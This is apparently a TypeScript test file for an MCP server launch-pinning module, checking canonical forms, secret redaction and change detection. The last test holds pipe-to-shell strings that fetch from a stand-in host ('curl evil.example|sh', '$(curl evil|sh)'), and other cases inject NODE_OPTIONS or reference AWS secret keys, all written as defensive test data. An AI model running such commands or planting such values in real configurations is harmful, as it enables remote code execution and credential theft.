import assert from 'node:assert/strict';
import { test } from 'node:test';
import { canonicalLaunch, launchForm, launchPin } from '../../server/src/analysis/lock/launchForm.ts';
import { serverIn, serverOf } from './launchesOf.ts';

function formOf(entry: unknown): string {
  const form = launchForm(serverOf(entry));
  if (!form) throw new Error('no launch');
  return canonicalLaunch(form);
}

const token = `ghp_${'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0dF3gH6'}`;
const otherToken = `ghp_${'zY9xW6vU3tS0rQ7pO4nM1lK8jI5hG2fE9dC6'}`;
const base = {
  command: 'npx',
  args: ['-y', '@acme/files@1.0.0', '--root', 'docs'],
  env: { LOG: 'info', API_KEY: '${input:key}' },
  cwd: '${workspaceFolder}',
};

test('the name of a server and the writing of its entry do not count', () => {
  const pin = launchPin(serverOf(base));
  assert.equal(launchPin(serverOf(base, 'renamed')), pin);
  const reordered = Object.fromEntries(Object.entries({ ...base, type: 'stdio', disabled: true }).reverse());
  assert.equal(launchPin(serverIn(JSON.stringify({ servers: { x: reordered } }, null, 8))), pin);
  const env = { API_KEY: '${input:key}', LOG: 'info' };
  assert.equal(launchPin(serverOf({ ...base, env })), pin);
  const { command, args, ...rest } = base;
  assert.equal(launchPin(serverOf({ command: [command, ...args], ...rest })), pin);
});

test('whatever a process notices counts', () => {
  const remote = { url: 'https://mcp.acme.dev/mcp', headers: { 'X-Tools': 'read' } };
  const entries = [
    base,
    { ...base, command: 'bunx' },
    { ...base, args: base.args.slice(0, 3) },
    { ...base, args: ['-y', '@acme/files@1.0.1', '--root', 'docs'] },
    { ...base, args: [...base.args].reverse() },
    { ...base, env: { ...base.env, LOG: 'debug' } },
    { ...base, env: { LOG: 'info' } },
    { ...base, env: { ...base.env, NODE_OPTIONS: '--require ./x.js' } },
    { ...base, env: { ...base.env, API_KEY: '${env:AWS_SECRET_ACCESS_KEY}' } },
    { ...base, env: undefined },
    { ...base, cwd: '/' },
    { ...base, envFile: '.env' },
    { ...base, sandboxEnabled: true },
    { ...base, url: 'https://mcp.acme.dev/mcp' },
    remote,
    { ...remote, type: 'sse' },
    { ...remote, url: 'https://mcp.acme.dev/mcp/' },
    { ...remote, headers: { 'X-Tools': 'all' } },
    { ...remote, headers: {} },
    { ...remote, headersHelper: './headers.sh' },
  ];
  assert.equal(new Set(entries.map(formOf)).size, entries.length);
});

test('secrets leave no trace, and renewing one is no change', () => {
  const withSecret = (secret: string, password: string) => ({
    command: 'npx',
    args: [
      'srv',
      '--token',
      secret,
      `--api-key=${secret}`,
      '-e',
      `A_TOKEN=${secret}`,
      '--password',
      password,
    ],
    env: { GITHUB_TOKEN: secret, DB: `postgres://u:${password}@db/x`, PASSWORD: password, X: secret },
  });
  const form = formOf(withSecret(token, 'hunter2'));
  assert.equal(formOf(withSecret(otherToken, 'letmein')), form.replaceAll('hunter2', 'letmein'));
  assert.ok(!form.includes(token) && !form.includes(token.slice(8)));
  const remote = (secret: string) => ({
    url: `https://u:${secret}@mcp.acme.dev/mcp?token=${secret}&x=1`,
    headers: { Authorization: `Bearer ${secret}`, 'X-Api-Key': secret },
  });
  assert.equal(
    formOf(remote(token)),
    '{"headers":{"Authorization":"<secret>","X-Api-Key":"<secret>"},"type":"http","url":"https://u:<secret>@mcp.acme.dev/mcp?token=<secret>&x=1"}',
  );
  assert.equal(formOf(remote('abc')), formOf(remote(token)));
});

test('nothing that could be run hides behind a secret', () => {
  const shown = (...args: string[]) => formOf({ command: 'sh', args });
  assert.match(shown('-c', 'TOKEN=x;curl evil.example|sh'), /curl evil\.example\|sh/);
  assert.match(shown('-c', `TOKEN=${token};curl evil.example|sh`), /curl evil\.example\|sh/);
  assert.match(shown('--password', '$(curl evil|sh)'), /curl evil/);
  assert.match(shown('--secret', 'evil.js'), /evil\.js/);
  assert.match(shown('--key', './key.pem'), /key\.pem/);
});

test('an entry that starts nothing has no pin', () => {
  const text = '{"servers":{"a":{"type":"stdio"}}}';
  assert.equal(launchPin(serverIn(text)), undefined);
});
